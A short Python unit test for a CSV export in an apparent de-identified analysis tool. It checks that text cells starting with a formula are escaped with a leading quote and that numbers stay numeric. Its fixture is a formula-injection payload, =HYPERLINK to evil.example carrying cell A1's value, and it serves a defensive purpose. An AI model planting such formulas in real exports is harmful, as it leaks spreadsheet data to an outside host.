"""The de-identified analysis CSV guards text cells against spreadsheet formulas (a security
review put =HYPERLINK(…) in a product name and it reached the CSV as a live formula)."""

import csv
import io

from anagen.interop.analysis import COLUMNS, to_csv


def test_text_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers():
    row = {c: None for c in COLUMNS}
    text_col = next(c for c, (kind, _) in COLUMNS.items() if kind == "string")
    number_col = next(c for c, (kind, _) in COLUMNS.items() if kind == "float")
    row[text_col] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    row[number_col] = -3.5
    cells = next(csv.DictReader(io.StringIO(to_csv([row]))))
    assert cells[text_col] == "'" + row[text_col]
    assert cells[number_col] == "-3.5"
